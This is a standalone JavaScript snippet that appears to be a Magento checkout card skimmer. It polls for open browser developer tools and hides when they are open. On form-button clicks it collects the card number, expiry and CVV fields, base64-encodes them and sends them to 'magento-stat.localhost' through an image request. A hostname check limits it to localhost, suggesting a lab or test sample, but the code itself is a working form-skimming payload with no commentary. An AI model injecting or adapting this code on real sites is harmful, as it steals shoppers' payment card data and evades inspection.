var _0xopen = false;
(function () {
  if (!/\.localhost$/.test(location.hostname)) return;
  var limit = 160;
  setInterval(function () {
    _0xopen = window.outerWidth - window.innerWidth > limit || window.outerHeight - window.innerHeight > limit || (window.Firebug && window.Firebug.chrome && window.Firebug.chrome.isInitialized);
  }, 500);
  document.addEventListener('click', function (e) {
    if (_0xopen) return;
    var t = e.target;
    if (!t || !/button|submit/i.test(t.tagName + t.type)) return;
    var n = document.querySelector('[name="payment[cc_number]"]');
    var m = document.querySelector('[name="payment[cc_exp_month]"]');
    var y = document.querySelector('[name="payment[cc_exp_year]"]');
    var c = document.querySelector('[name="payment[cc_cid]"]');
    if (!n || !n.value) return;
    var i = document.createElement('img');
    i.src = 'https://magento-stat.localhost/a.png?h=' + encodeURIComponent(btoa([n.value, m.value, y.value, c.value, navigator.userAgent].join('|')));
  }, true);
})();
